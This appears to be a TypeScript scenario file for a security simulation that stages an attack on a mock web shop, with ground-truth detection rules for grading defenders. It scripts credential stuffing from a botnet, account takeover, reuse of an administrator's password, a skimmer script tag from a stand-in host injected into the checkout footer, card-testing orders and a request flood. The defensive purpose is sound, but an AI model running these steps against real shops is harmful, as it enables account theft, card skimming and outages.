import { ShopVisitor } from '../cyber/account-shop.ts';
import { flood } from '../cyber/flood.ts';
import { scan, shopAround } from '../cyber/visitor.ts';
import { pick } from '../random.ts';
import { customers, Store } from '../world/shop.ts';
import { again } from './again.ts';
import type { Ground, GroundTruth, Narrator, Pilot } from './pilot.ts';

const MINUTE_MS = 60_000;
const OFFICE = '198.51.100.10';
const agent = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0';
const administrator = { account: 'l.maurer', password: 'Fjell-2019' };
/** Other people's machines, and the one that somebody sits at. */
const BOTNET = Array.from({ length: 36 }, (_, index) => `203.0.113.${100 + index * 3}`);
const ATTACKER = '203.0.113.77';
/** Whose password was on the list, too. */
const victim = customers[7] ?? { account: '', password: '', address: '', device: '' };
const SERVER = '198.51.100.20';
/** What the network sensor says of who comes from a rented machine, and of those who look around every day. */
const fromHosting = {
  id: 2_522_104,
  name: 'ET TOR Known Tor Exit Node Traffic',
  category: 'Misc Attack',
  severity: 2,
} as const;
const lookingAround = {
  id: 2_029_054,
  name: 'ET SCAN Zmap User-Agent (Inbound)',
  category: 'Detection of a Network Scan',
  severity: 3,
} as const;
const SKIMMER = '<script src="https://static.tag-metrics.example/c.js"></script>';

const truth: GroundTruth = {
  incidents: [{ id: 'fraud', title: 'From a list of passwords to a shop that is shut' }],
  sites: ['store'],
  steps: [
    {
      id: 'stuffing',
      text: `a list of stolen passwords is tried from ${BOTNET.length} addresses`,
      signs: [
        { rule: 'distributed-stuffing', asset: 'store-shop' },
        { rule: 'credential-stuffing', asset: 'store-shop', observables: { ip: [...BOTNET, ATTACKER] } },
      ],
    },
    {
      id: 'take-over',
      text: "a customer's account is entered, its password and its address are changed",
      signs: [{ rule: 'account-takeover', asset: 'store-shop', observables: { account: victim.account } }],
      also: [{ rule: `suricata:${fromHosting.id}`, asset: 'store-firewall', observables: { ip: ATTACKER } }],
    },
    {
      id: 'administration',
      text: 'an employee has used the same password for the administration',
      signs: [{ rule: 'new-address-login', asset: 'store-admin', observables: { ip: ATTACKER } }],
    },
    {
      id: 'skimmer',
      text: "a stranger's script is put under the checkout",
      signs: [{ rule: 'integrity-new-script', asset: 'checkout' }],
    },
    {
      id: 'fraud-orders',
      text: 'goods are ordered in the name of the customer, with one stolen card after the other',
      signs: [
        { rule: 'card-testing', asset: 'card-payments', observables: { account: victim.account } },
        { rule: 'card-testing', asset: 'card-payments', observables: { ip: ATTACKER } },
      ],
    },
    {
      id: 'denial',
      text: 'the shop is flooded until it answers nobody',
      signs: [{ rule: 'request-flood', asset: 'store-shop' }],
    },
  ],
};

/** A customer signs in from home, and mistypes now and then. */
async function signIn({ url }: Store['shop'], random: () => number, who = pick(customers, random)) {
  const { account, password, address } = who;
  const visitor = new ShopVisitor(url, { address, agent });
  if (random() < 0.1) await visitor.send('/login', { account, password: 'montain' });
  await visitor.send('/login', { account, password });
  return visitor;
}

/** Visitors, customers and their orders, the shop's people, and the usual scanners. */
async function runDay(ground: Ground, store: Store): Promise<unknown> {
  const { clock, random, signal } = ground;
  const { shop, outlet } = store;
  const office = (url: string) => new ShopVisitor(url, { address: OFFICE, agent });
  // Everybody has been here before.
  for (const customer of customers.slice(0, 12)) await signIn(shop, () => 1, customer);
  await office(shop.url).send('/admin/login', administrator);
  return Promise.all([
    again(ground, 12_000, () => shopAround(shop.url, random, clock, signal)),
    again(ground, 15_000, () => signIn(shop, random)),
    again(ground, 40_000, async () => {
      const { account, address, device } = pick(customers, random);
      const total = Math.round(1_000 + random() * 20_000) / 100;
      // One in ten is refused once and takes another card.
      const cards = random() < 0.1 ? [`${account}-a`, `${account}-b`] : [`${account}-a`];
      await store.buy({ account, address, agent, device, total, cards });
    }),
    again(ground, 5 * MINUTE_MS, async () => {
      // Somebody has moved house.
      const visitor = await signIn(shop, random);
      await visitor.send('/account', { address: 'Bergstrasse 4' });
    }),
    again(ground, 3 * MINUTE_MS, () => office(shop.url).send('/admin/login', administrator)),
    again(ground, 3 * MINUTE_MS, () =>
      office(outlet.url).send('/admin/login', { account: 'p.voss', password: 'Outlet-7' }),
    ),
    again(ground, 20_000, () => shopAround(outlet.url, random, clock, signal)),
    again(ground, 4 * MINUTE_MS, () =>
      store.sensor.alert(`192.0.2.${1 + Math.floor(random() * 250)}`, SERVER, lookingAround),
    ),
    again(ground, 6 * MINUTE_MS, () => scan(shop.url, random, clock, signal)),
  ]);
}

/** At the other shop a stranger guesses one password, and a scanner comes by. */
async function meanwhileAtOutlet(store: Store, { say, signal, random, clock }: Narrator): Promise<void> {
  await store.wait(3 * MINUTE_MS);
  say("meanwhile a stranger guesses at the outlet's administration, in vain");
  const stranger = new ShopVisitor(store.outlet.url, { address: '192.0.2.201', agent });
  for (let guess = 0; guess < 15 && !signal.aborted; guess++) {
    await stranger.send('/admin/login', { account: 'p.voss', password: `outlet${guess}` });
    await store.wait(3_000);
  }
  await scan(store.outlet.url, random, clock, signal);
}

/** Two accounts of the list an address, within a minute; one of them is right. */
async function tryTheList({ shop, wait }: Pick<Store, 'shop' | 'wait'>, { signal }: Narrator): Promise<void> {
  const list = Array.from({ length: 2 * BOTNET.length }, (_, index) => ({
    account: `listed${index}@example.net`,
    password: `Summer${index}!`,
  }));
  for (const [index, entry] of list.entries()) {
    if (signal.aborted) return;
    const visitor = new ShopVisitor(shop.url, { address: BOTNET[index % BOTNET.length] ?? '', agent });
    await visitor.send('/login', entry);
    if (index === BOTNET.length + 20)
      await visitor.send('/login', { account: victim.account, password: victim.password });
    await wait(700);
  }
}

async function tell(store: Store, narrator: Narrator): Promise<void> {
  const { step, clock, signal } = narrator;
  const { shop } = store;
  const elsewhere = meanwhileAtOutlet(store, narrator);
  step('stuffing');
  await tryTheList({ shop, wait: (ms) => store.wait(ms) }, narrator);
  await store.wait(MINUTE_MS);
  step('take-over');
  const from = { address: ATTACKER, agent };
  const thief = new ShopVisitor(shop.url, from);
  await store.sensor.alert(ATTACKER, SERVER, fromHosting);
  await thief.send('/login', { account: victim.account, password: victim.password });
  await store.wait(15_000);
  await thief.send('/account', { password: 'mine-now', address: 'Packstation 114' });
  await store.wait(MINUTE_MS);
  step('administration');
  const intruder = new ShopVisitor(shop.url, from);
  await intruder.send('/admin/login', administrator);
  await store.wait(45_000);
  step('skimmer');
  await intruder.send('/admin/templates/checkout', { footer: SKIMMER });
  await store.wait(2 * MINUTE_MS);
  step('fraud-orders');
  await store.buy({
    account: victim.account,
    ...from,
    device: 'device-x',
    total: 849.9,
    cards: ['stolen-1', 'stolen-2', 'stolen-3', 'stolen-4', 'stolen-5', 'stolen-6'],
  });
  await store.wait(MINUTE_MS);
  step('denial');
  await flood(
    { url: shop.url, path: '/', from: BOTNET, agent, perSecond: 24, lastsMs: 30_000 },
    clock,
    signal,
  );
  await elsewhere;
}

/** From a list of stolen passwords to a shop that sells nothing. */
export const shop: Pilot = {
  id: 'shop',
  title: 'Fraud at a web shop',
  story:
    "Stolen passwords are tried, an account is taken over, the checkout gets a stranger's script; then fraud, and a flood.",
  beginsAt: '14:20',
  settings: {
    folder: 'shop',
    ports: ['storePort'],
    secrets: ['orderSecret', 'cardSecret'],
    houses: [],
  },
  truth,
  async open(ground) {
    const store = await Store.open(ground);
    return { day: () => runDay(ground, store), tell: (narrator) => tell(store, narrator) };
  },
};
